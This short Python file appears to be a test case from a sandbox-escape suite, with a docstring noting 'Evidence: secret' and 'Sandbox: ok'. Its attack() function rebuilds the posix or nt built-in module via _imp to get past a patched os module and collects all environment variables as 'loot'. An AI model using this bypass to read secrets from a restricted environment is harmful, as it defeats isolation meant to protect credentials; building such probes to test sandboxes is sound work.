"""Read the environment from a freshly created built-in module, past any patched `os`.

Evidence: secret
Sandbox: ok
"""

import _imp
import importlib.machinery
import sys


def attack(target):
    loot = []
    for name in ("posix", "nt"):
        if name in sys.builtin_module_names:
            spec = importlib.machinery.ModuleSpec(name, None, origin="built-in")
            module = _imp.create_builtin(spec)
            _imp.exec_builtin(module)
            loot.append([[str(key), str(value)] for key, value in module.environ.items()])
    return loot
